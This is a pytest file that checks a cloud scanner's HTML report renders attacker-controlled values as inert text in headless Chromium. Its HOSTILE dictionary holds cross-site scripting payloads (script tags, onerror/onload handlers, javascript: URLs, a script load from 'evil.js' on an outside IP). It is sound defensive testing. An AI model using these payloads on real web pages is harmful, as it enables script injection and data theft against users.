"""report.html in a real browser (Debian's headless Chromium): values a resource owner controls (account
names, tags, OU names, application scopes, resource ids, messages) carrying HTML and script payloads render as
inert text; the page makes no network request, raises no script error, and its filters work under the CSP."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from scanner import rundir
from scanner.cli.main import main
from tests.conftest import copy_of_demo

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--host-resolver-rules=MAP * ~NOTFOUND",  # nothing the page could name resolves, should it try
]

# Each payload would set window.__pwned (or fetch from off the machine) if the report let it become markup.
HOSTILE = {
    "account_name": '<script>window.__pwned = "account name"</script>',
    "tag_value": '"><img src=x onerror="window.__pwned=\'tag\'">',
    "tag_key": "<svg onload=\"window.__pwned='tag key'\"></svg>",
    "ou_name": "</style><script>window.__pwned = 'ou'</script>",
    "scope": "<iframe src=\"javascript:parent.__pwned='scope'\"></iframe>",
    "resource_id": '<img src="http://203.0.113.9/beacon.png"><a href="javascript:window.__pwned=1">x</a>',
    "message": '</td></tr></table><script src="http://203.0.113.9/evil.js"></script>',
}


def _poison_run(out: Path, victim: str) -> None:
    """Give one account, its placement and one of its results hostile values, as a resource owner could."""
    run = json.loads((out / rundir.RUN).read_text())
    for account in run["accounts"]:
        if account["account_id"] == victim:
            account["name"] = HOSTILE["account_name"]
            account["tags"] = {"owner": HOSTILE["tag_value"], HOSTILE["tag_key"]: "1"}
            account["ou_path"] = [HOSTILE["ou_name"]]
    run["placements"][victim]["scope"] = HOSTILE["scope"]
    (out / rundir.RUN).write_text(json.dumps(run))
    lines = [json.loads(line) for line in (out / rundir.RESULTS).read_text().splitlines()]
    target = next(r for r in lines if r["account_id"] == victim)
    target["resource_id"] = HOSTILE["resource_id"]
    target["message"] = HOSTILE["message"]
    (out / rundir.RESULTS).write_text("".join(json.dumps(r) + "\n" for r in lines))


@pytest.fixture(scope="module")
def hostile_report(demo_run_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    out = copy_of_demo(demo_run_dir, tmp_path_factory, "hostile")
    run = json.loads((out / rundir.RUN).read_text())
    victim = next(a["account_id"] for a in run["accounts"] if a["name"] == "tenant-a")
    _poison_run(out, victim)
    assert main(["report", "--from", str(out), "--no-pdf"]) == 0
    return out / rundir.REPORT_HTML, victim


class PageLog:
    """What the page did: every request it tried beyond its own file, and every script error."""

    def __init__(self, own_url: str) -> None:
        self.own_url = own_url
        self.requests: list[str] = []
        self.errors: list[str] = []

    def route(self, route: Any) -> None:
        if route.request.url == self.own_url:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.abort()

    def console(self, message: Any) -> None:
        if message.type in ("error", "warning"):
            self.errors.append(f"console {message.type}: {message.text}")


@pytest.fixture(scope="module")
def page(hostile_report: tuple[Path, str]) -> Iterator[tuple[Any, PageLog]]:
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "Debian's chromium package is missing: ./setup.sh installs it"
    html, _ = hostile_report
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        context = browser.new_context(java_script_enabled=True)
        page = context.new_page()
        log = PageLog(html.as_uri())
        context.route("**/*", log.route)
        page.on("console", log.console)
        page.on("pageerror", lambda error: log.errors.append(f"pageerror: {error}"))
        page.goto(html.as_uri(), wait_until="load")
        page.wait_for_timeout(300)  # let any injected handler (onerror, onload) fire if it could
        yield page, log
        browser.close()


def test_hostile_values_render_as_text_and_run_nothing(page: tuple[Any, PageLog]) -> None:
    browser_page, log = page
    assert browser_page.evaluate("window.__pwned") is None
    text = browser_page.inner_text("body")
    for name, payload in HOSTILE.items():
        assert payload in text, f"{name} is not shown verbatim as text"
    # No element the payloads name exists beyond the report's own single script.
    assert browser_page.evaluate("document.querySelectorAll('script').length") == 1
    assert browser_page.evaluate("document.querySelectorAll('img, iframe, [onload], [onerror]').length") == 0
    assert log.requests == []
    assert log.errors == []


def test_filters_run_under_the_content_security_policy(
    page: tuple[Any, PageLog], hostile_report: tuple[Path, str]
) -> None:
    browser_page, log = page
    _, victim = hostile_report
    account_rows = f"tr[data-account='{victim}']"
    other_rows = f"tr[data-account]:not([data-account='{victim}'])"
    assert browser_page.locator(other_rows).first.is_visible()
    browser_page.select_option("select[data-filter=account]", victim)
    assert browser_page.locator(account_rows).first.is_visible()
    hidden = browser_page.evaluate(
        f'Array.from(document.querySelectorAll("{other_rows}")).every(r => r.hidden)'
    )
    assert hidden, "choosing an account must hide every other account's rows (the filter script ran)"
    assert "rows shown" in browser_page.inner_text("#filter-count")
    browser_page.select_option("select[data-filter=account]", "")
    assert browser_page.locator(other_rows).first.is_visible()
    assert log.errors == []
